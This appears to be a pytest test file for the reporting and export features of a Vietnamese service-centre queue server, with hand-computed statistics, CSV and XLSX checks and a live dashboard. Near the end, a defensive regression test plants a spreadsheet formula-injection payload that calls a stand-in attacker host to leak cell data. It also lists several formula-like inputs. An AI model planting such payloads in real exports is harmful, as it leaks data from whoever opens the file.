"""Reports against figures worked out by hand on a small history, on SQLite and PostgreSQL."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests_support import (FIVE_LEVEL_SATISFACTION, demo_centre_yaml, heartbeat, staff_counter, tablet_headers,
                           take_counter)


@pytest.fixture
def app(make_app, busy_kiosk_config):
    """The reports' histories are issued at once from kiosk-1: faster than a kiosk's human pace."""
    return make_app(busy_kiosk_config)


def at(clock, hhmm):
    clock.set(f"2026-11-23T{hhmm}:00+07:00")


def issue(client, auth, procedure):
    return client.post("/api/v1/tickets", json={"procedure_id": procedure}, headers=auth("kiosk")).get_json()["ticket"]


def act(client, auth, counter, action, role="staff", **body):
    if role == "staff":  # canbo works at the counter they hold (managers may act at any)
        take_counter(client, auth(role), counter)
    response = client.post(f"/api/v1/counters/{counter}/{action}", json=body, headers=auth(role))
    assert response.status_code == 200, response.get_json()
    return response.get_json()["ticket"]


@pytest.fixture
def history(client, auth, clock, centre):
    """Monday 23 Nov 2026 (times in Hà Nội):
    A-001 khai_sinh   09:00, called 09:05 at counter 1 (canbo), started 09:06, done 09:14: wait 5, service 8
    B-001 chứng thực  09:00, called 09:10 at counter 3 (quanly), done 09:14 without start: wait 10, service 4
    A-002 khai_sinh   09:20, called 09:50 at counter 2, no-show 09:51: wait 30
    A-003 ket_hon     10:00, cancelled 10:02 while waiting
    B-002 chứng thực  10:05, called 10:07 at counter 3 (quanly), started 10:08, done 10:20: wait 2, service 12
    Ratings: A-001 "Rất hài lòng" (3) from the phone, B-001 "Không hài lòng" (1) on counter 3's tablet.
    """
    at(clock, "09:00")
    a1, b1 = issue(client, auth, "khai_sinh"), issue(client, auth, "chung_thuc_ban_sao")
    at(clock, "09:05"); act(client, auth, 1, "call-next")
    at(clock, "09:06"); act(client, auth, 1, "start")
    at(clock, "09:10"); act(client, auth, 3, "call-next", "manager")
    at(clock, "09:14"); act(client, auth, 1, "done"); act(client, auth, 3, "done", "manager")
    at(clock, "09:15")
    assert client.post(f"/api/v1/track/{a1['track_token']}/rating", json={"score": 3}).status_code == 201
    assert client.post("/api/v1/counters/3/rating", json={"ticket_id": b1["id"], "score": 1, "comment": "Chờ lâu"},
                       headers=tablet_headers(centre, 3)).status_code == 201
    at(clock, "09:20"); issue(client, auth, "khai_sinh")
    at(clock, "09:50"); act(client, auth, 2, "call-next")
    at(clock, "09:51"); act(client, auth, 2, "no-show")
    at(clock, "10:00"); a3 = issue(client, auth, "ket_hon")
    at(clock, "10:02"); act(client, auth, 1, "cancel", ticket_id=a3["id"])
    at(clock, "10:05"); issue(client, auth, "chung_thuc_ban_sao")
    at(clock, "10:07"); act(client, auth, 3, "call-next", "manager")
    at(clock, "10:08"); act(client, auth, 3, "start", "manager")
    at(clock, "10:20"); act(client, auth, 3, "done", "manager")
    at(clock, "16:00")


def get_report(client, auth, **period):
    response = client.get("/api/v1/reports", query_string=period, headers=auth("manager"))
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def by_key(report, dim):
    return {row["key"]: row for row in report["by"][dim]}


def test_totals_match_the_hand_computed_history(client, auth, history):
    report = get_report(client, auth, start="2026-11-23")
    assert report["period"] == {"start": "2026-11-23", "end": "2026-11-23", "days": 1}
    total = report["total"]
    assert (total["issued"], total["served"], total["no_show"], total["cancelled"], total["called"]) == (5, 3, 1, 1, 4)
    assert total["wait"] == {"mean": 11.8, "median": 7.5, "p90": 30.0}  # waits 2, 5, 10, 30
    assert total["service"] == {"mean": 8.0, "median": 8.0, "p90": 12.0}  # services 4, 8, 12
    assert total["within_target"] == 0.75  # 3 of 4 called within 20 minutes
    assert total["ratings"] == 2 and total["satisfaction_rate"] == 0.5
    assert report["peak_hours"][:2] == [{"hour": 9, "label": "09:00–10:00", "issued": 3},
                                        {"hour": 10, "label": "10:00–11:00", "issued": 2}]


def test_breakdowns_by_field_procedure_counter_staff_hour_and_day(client, auth, history):
    report = get_report(client, auth, start="2026-11-23", end="2026-11-23")
    fields = by_key(report, "field")
    assert fields["ho_tich"]["label"]["vi"] == "Hộ tịch"
    assert (fields["ho_tich"]["issued"], fields["ho_tich"]["served"], fields["ho_tich"]["no_show"],
            fields["ho_tich"]["cancelled"]) == (3, 1, 1, 1)
    assert fields["ho_tich"]["wait"] == {"mean": 17.5, "median": 17.5, "p90": 30.0}
    assert fields["ho_tich"]["within_target"] == 0.5
    assert fields["chung_thuc"]["wait"] == {"mean": 6.0, "median": 6.0, "p90": 10.0}
    assert fields["chung_thuc"]["service"] == {"mean": 8.0, "median": 8.0, "p90": 12.0}
    assert fields["chung_thuc"]["satisfaction_rate"] == 0.0
    assert {k: r["issued"] for k, r in by_key(report, "procedure").items()} == {
        "khai_sinh": 2, "chung_thuc_ban_sao": 2, "ket_hon": 1}
    counters = by_key(report, "counter")
    assert {k: r["issued"] for k, r in counters.items()} == {"1": 1, "2": 1, "3": 2, "": 1}
    assert counters["3"]["label"]["vi"] == "Quầy 3 – Chứng thực" and counters["2"]["no_show"] == 1
    staff = by_key(report, "staff")
    assert {k: (r["served"], r["ratings"]) for k, r in staff.items()} == {"canbo": (1, 1), "quanly": (2, 1), "": (0, 0)}
    assert staff["quanly"]["service"]["mean"] == 8.0 and staff["canbo"]["satisfaction_rate"] == 1.0
    # A-002's no-show counts for canbo, who called it at counter 2: only the cancelled A-003 has nobody
    assert {k: (r["issued"], r["no_show"], r["cancelled"]) for k, r in staff.items()} == {
        "canbo": (2, 1, 0), "quanly": (2, 0, 0), "": (1, 0, 1)}
    assert staff["canbo"]["wait"]["mean"] == 17.5 and staff["canbo"]["within_target"] == 0.5  # waits 5 and 30
    assert [(r["key"], r["issued"]) for r in report["by"]["hour"]] == [("9", 3), ("10", 2)]
    assert [(r["key"], r["served"]) for r in report["by"]["day"]] == [("2026-11-23", 3)]


def test_no_shows_count_for_the_staff_member_of_the_last_call(client, auth, clock, history):
    at(clock, "16:00"); b3 = issue(client, auth, "chung_thuc_ban_sao")
    at(clock, "16:05"); act(client, auth, 3, "call-next", "manager")
    at(clock, "16:06"); act(client, auth, 3, "no-show", "manager")  # quanly missed B-003 first ...
    at(clock, "16:10"); act(client, auth, 4, "call-number", number=b3["number"])
    at(clock, "16:11"); act(client, auth, 4, "no-show")  # ... then canbo called it again at counter 4
    report = get_report(client, auth, start="2026-11-23")
    staff = by_key(report, "staff")
    assert {k: (r["issued"], r["served"], r["no_show"]) for k, r in staff.items()} == {
        "canbo": (3, 1, 2), "quanly": (2, 2, 0), "": (1, 0, 0)}
    assert staff["canbo"]["wait"]["mean"] == 13.3  # waits 5, 30 and 5 (B-003 to its first call): 40 / 3
    counters = by_key(report, "counter")
    assert (counters["4"]["issued"], counters["4"]["no_show"], counters["3"]["no_show"]) == (1, 1, 0)


def test_satisfaction_rate_follows_the_scales_satisfied_from(make_app, tmp_path, tokens_for, clock):
    config = tmp_path / "centre.yaml"
    config.write_text(demo_centre_yaml(FIVE_LEVEL_SATISFACTION), encoding="utf-8")
    app = make_app(config)
    client, kiosk, staff = app.test_client(), tokens_for(app), tokens_for(app, "staff", "canbo")
    at(clock, "09:00")
    take_counter(client, staff, 1)
    for score in (5, 4, 3, 2):
        ticket = client.post("/api/v1/tickets", json={"procedure_id": "khai_sinh"}, headers=kiosk).get_json()["ticket"]
        client.post("/api/v1/counters/1/call-next", headers=staff)
        assert client.post("/api/v1/counters/1/done", headers=staff).status_code == 200
        assert client.post(f"/api/v1/track/{ticket['track_token']}/rating", json={"score": score}).status_code == 201
    manager = tokens_for(app, "manager", "quanly")
    report = client.get("/api/v1/reports?start=2026-11-23", headers=manager).get_json()
    total = report["total"]
    # 5 and 4 are at or above satisfied_from 4; 3 and 2 are not (the default scale's 2 would count all four)
    assert (total["ratings"], total["satisfaction_rate"], total["score_mean"]) == (4, 0.5, 3.5)
    assert report["scale"]["satisfied_from"] == 4


def test_a_period_without_tickets_says_so(client, auth, history):
    report = get_report(client, auth, start="2026-11-01", end="2026-11-07")
    assert report["has_data"] is False and report["total"] is None
    assert report["by"]["field"] == [] and report["peak_hours"] == []
    assert client.get("/api/v1/reports/export.xlsx?start=2026-11-01", headers=auth("manager")).status_code == 200


def test_exports_of_an_empty_period_have_headers_and_no_rows(client, auth, history):
    response = client.get("/api/v1/reports/export.csv?start=2026-11-01&end=2026-11-07", headers=auth("manager"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Từ ngày / From", "2026-11-01", "Đến ngày / To", "2026-11-07"]
    assert rows[1][:4] == ["Nhóm / Dimension", "Mã / Key", "Tên / Name", "Phiếu đã cấp / Issued"]
    assert len(rows) == 2  # no total, no breakdown rows
    response = client.get("/api/v1/reports/export.xlsx?start=2026-11-01&end=2026-11-07", headers=auth("manager"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Tổng quan", "Lĩnh vực", "Thủ tục", "Quầy", "Cán bộ", "Theo giờ", "Theo ngày"]
    summary = [row for row in book["Tổng quan"].iter_rows(values_only=True) if row and row[0]]
    assert ("Không có dữ liệu / No data", None) in summary and ("Đến ngày / To", "2026-11-07") in summary
    for name in book.sheetnames[1:]:
        rows = list(book[name].iter_rows(values_only=True))
        assert len(rows) == 1 and rows[0][:3] == ("Mã / Key", "Tên / Name", "Phiếu đã cấp / Issued"), name


@pytest.mark.parametrize("query, status, code", [
    ("start=2026-11-23&end=2026-11-01", 422, "reversed_period"),
    ("start=23/11/2026", 400, "invalid_date"),
    ("start=2024-01-01&end=2026-01-01", 422, "period_too_long"),
])
def test_bad_periods_get_clear_answers(client, auth, query, status, code):
    response = client.get(f"/api/v1/reports?{query}", headers=auth("manager"))
    assert response.status_code == status
    assert response.get_json()["error"]["code"] == code


def test_reports_are_for_managers(client, auth):
    assert client.get("/api/v1/reports").status_code == 401
    assert client.get("/api/v1/reports", headers=auth("staff")).status_code == 403
    assert client.get("/api/v1/reports/live", headers=auth("admin")).status_code == 200


def test_csv_export_carries_every_breakdown(client, auth, history):
    response = client.get("/api/v1/reports/export.csv?start=2026-11-23", headers=auth("manager"))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header = rows[1]
    total = dict(zip(header, rows[2]))
    assert total["Nhóm / Dimension"] == "Tổng" and total["Phiếu đã cấp / Issued"] == "5"
    assert total["Chờ trung vị / Wait median"] == "7.5" and total["Hài lòng (%) / Satisfied (%)"] == "50.0"
    assert any(r[0] == "Lĩnh vực" and r[2] == "Hộ tịch" for r in rows)


def test_xlsx_export_opens_in_openpyxl_with_the_same_figures(client, auth, history):
    response = client.get("/api/v1/reports/export.xlsx?start=2026-11-23&end=2026-11-23", headers=auth("manager"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Tổng quan", "Lĩnh vực", "Thủ tục", "Quầy", "Cán bộ", "Theo giờ", "Theo ngày"]
    summary = {row[0]: row[1] for row in book["Tổng quan"].iter_rows(values_only=True) if row and row[0]}
    assert summary["Phiếu đã cấp / Issued"] == 5 and summary["Đã phục vụ / Served"] == 3
    assert summary["Chờ P90 / Wait p90"] == 30.0 and summary["Trong thời gian chờ mục tiêu (%) / Within target wait (%)"] == 75.0
    assert summary["Từ ngày / From"] == "2026-11-23"
    fields = list(book["Lĩnh vực"].iter_rows(values_only=True))
    assert fields[0][:3] == ("Mã / Key", "Tên / Name", "Phiếu đã cấp / Issued")
    ho_tich = next(r for r in fields if r[0] == "ho_tich")
    assert ho_tich[1:6] == ("Hộ tịch", 3, 1, 1, 1)


def sheet_rows(book, name):
    """A breakdown sheet as {key: row after the key}; the header row must be the usual one."""
    rows = list(book[name].iter_rows(values_only=True))
    assert rows[0][:3] == ("Mã / Key", "Tên / Name", "Phiếu đã cấp / Issued") and len(rows[0]) == 15
    return {row[0] or "": row[1:] for row in rows[1:]}


def test_every_xlsx_sheet_carries_the_hand_computed_breakdown(client, auth, history):
    response = client.get("/api/v1/reports/export.xlsx?start=2026-11-23", headers=auth("manager"))
    book = load_workbook(io.BytesIO(response.data))
    # name, issued, served, no-show, cancelled, wait mean/median/p90, service mean/median/p90,
    # within target %, ratings, satisfied %
    no_times = (None,) * 3
    assert sheet_rows(book, "Lĩnh vực") == {
        "ho_tich": ("Hộ tịch", 3, 1, 1, 1, 17.5, 17.5, 30, 8, 8, 8, 50, 1, 100),  # waits 5, 30
        "chung_thuc": ("Chứng thực", 2, 2, 0, 0, 6, 6, 10, 8, 8, 12, 100, 1, 0),  # waits 10, 2; services 4, 12
    }
    assert sheet_rows(book, "Thủ tục") == {
        "khai_sinh": ("Đăng ký khai sinh", 2, 1, 1, 0, 17.5, 17.5, 30, 8, 8, 8, 50, 1, 100),
        "chung_thuc_ban_sao": ("Chứng thực bản sao từ bản chính giấy tờ, văn bản", 2, 2, 0, 0, 6, 6, 10, 8, 8, 12,
                               100, 1, 0),
        "ket_hon": ("Đăng ký kết hôn", 1, 0, 0, 1, *no_times, *no_times, None, 0, None),
    }
    assert sheet_rows(book, "Quầy") == {
        "1": ("Quầy 1 – Hộ tịch", 1, 1, 0, 0, 5, 5, 5, 8, 8, 8, 100, 1, 100),
        "2": ("Quầy 2 – Hộ tịch", 1, 0, 1, 0, 30, 30, 30, *no_times, 0, 0, None),
        "3": ("Quầy 3 – Chứng thực", 2, 2, 0, 0, 6, 6, 10, 8, 8, 12, 100, 1, 0),
        "": ("(không có)", 1, 0, 0, 1, *no_times, *no_times, None, 0, None),  # A-003, cancelled while waiting
    }
    assert sheet_rows(book, "Cán bộ") == {
        "canbo": ("canbo", 2, 1, 1, 0, 17.5, 17.5, 30, 8, 8, 8, 50, 1, 100),  # A-001 served, A-002 no-show
        "quanly": ("quanly", 2, 2, 0, 0, 6, 6, 10, 8, 8, 12, 100, 1, 0),
        "": ("(không có)", 1, 0, 0, 1, *no_times, *no_times, None, 0, None),
    }
    assert sheet_rows(book, "Theo giờ") == {
        # 09:xx: A-001, B-001, A-002, waits 5, 10, 30 (2 of 3 within 20 min), services 8, 4
        "9": ("09:00–10:00", 3, 2, 1, 0, 15, 10, 30, 6, 6, 8, 66.7, 2, 50),
        "10": ("10:00–11:00", 2, 1, 0, 1, 2, 2, 2, 12, 12, 12, 100, 0, None),  # A-003 cancelled, B-002
    }
    assert sheet_rows(book, "Theo ngày") == {
        "2026-11-23": ("2026-11-23", 5, 3, 1, 1, 11.8, 7.5, 30, 8, 8, 12, 75, 2, 50),
    }


def test_live_dashboard_compares_with_the_same_weekday_last_week(client, auth, clock, centre):
    clock.set("2026-11-16T09:00:00+07:00")  # Monday a week earlier
    for _ in range(3):
        issue(client, auth, "khai_sinh")
        act(client, auth, 1, "call-next")
        act(client, auth, 1, "done")
    clock.set("2026-11-16T15:00:00+07:00")
    issue(client, auth, "khai_sinh"); act(client, auth, 1, "call-next"); act(client, auth, 1, "done")
    clock.set("2026-11-23T09:00:00+07:00")
    issue(client, auth, "khai_sinh"); act(client, auth, 1, "call-next"); act(client, auth, 1, "done")
    issue(client, auth, "khai_sinh")
    for minute in range(1, 13):  # canbo's console at counter 1 keeps beating
        clock.set(f"2026-11-23T09:{minute:02}:00+07:00")
        heartbeat(client, auth("staff"))
    issue(client, auth, "chung_thuc_ban_sao")
    desk_4 = staff_counter(centre, 4)  # someone sits at counter 4, then closes it
    assert client.post("/api/v1/counters/4/close", headers=desk_4).status_code == 200
    live = client.get("/api/v1/reports/live", headers=auth("manager")).get_json()
    fields = {f["id"]: f for f in live["fields"]}
    assert fields["ho_tich"]["waiting"] == 1 and fields["ho_tich"]["longest_wait_minutes"] == 12
    assert fields["chung_thuc"]["waiting"] == 1 and live["waiting_total"] == 2
    assert live["longest_wait"] == {"field_id": "ho_tich", "minutes": 12}
    counters = {c["number"]: c for c in live["counters"]}
    assert live["counters_staffed"] == 1  # counter 1: not the six open counters nobody sits at, not 4 (closed)
    assert counters[1]["staffed"] is True and counters[1]["staffed_minutes_today"] == 12
    assert counters[4]["staffed"] is False and counters[4]["open"] is False
    assert counters[2]["staffed"] is False and counters[2]["open"] is True
    assert (live["served_today"], live["served_last_week_same_time"], live["served_last_week_whole_day"]) == (1, 3, 4)
    assert live["last_week_day"] == "2026-11-16"


def test_finding_14_formula_like_names_are_exported_as_text(client, auth, centre, clock):
    """Issue 14, finding 14: a staff name "=HYPERLINK(...)" became a live formula in the XLSX and was written
    as is in the CSV. Names are text in both; figures stay numbers."""
    from queue_server.services import access
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
    access.create_staff(centre, "mallory", "mat-khau-dai", hostile)
    mallory = {"Authorization": "Bearer " + access.create_token(centre, "staff", "mallory")}
    take_counter(client, mallory, 1)
    at(clock, "09:00")
    issue(client, auth, "khai_sinh")
    at(clock, "09:05"); client.post("/api/v1/counters/1/call-next", headers=mallory)
    at(clock, "09:10"); assert client.post("/api/v1/counters/1/done", headers=mallory).status_code == 200

    csv_text = client.get("/api/v1/reports/export.csv?start=2026-11-23", headers=auth("manager")).data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(csv_text)))
    staff = next(r for r in rows if r[0] == "Cán bộ" and r[1] == "mallory")
    assert staff[2] == "'" + hostile and staff[3] == "1"  # text, then the figures as they were
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)

    book = load_workbook(io.BytesIO(client.get("/api/v1/reports/export.xlsx?start=2026-11-23",
                                               headers=auth("manager")).data))
    cell = next(row[1] for row in book["Cán bộ"].iter_rows() if row[0].value == "mallory")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (hostile, "s", True)
    assert not any(c.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
    issued = next(row[2] for row in book["Cán bộ"].iter_rows() if row[0].value == "mallory")
    assert (issued.value, issued.data_type) == (1, "n")


def test_finding_14_only_text_is_escaped_negative_numbers_stay_numbers():
    from queue_server.services.report_export import csv_cell, is_formula_like
    for text in ("=1+1", "+84 912", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"):
        assert is_formula_like(text) and csv_cell(text) == "'" + text
    for value in (-3, -2.5, "-2.5", "+4", "Quầy 1", "", None, 0):
        assert not is_formula_like(value) and csv_cell(value) == value
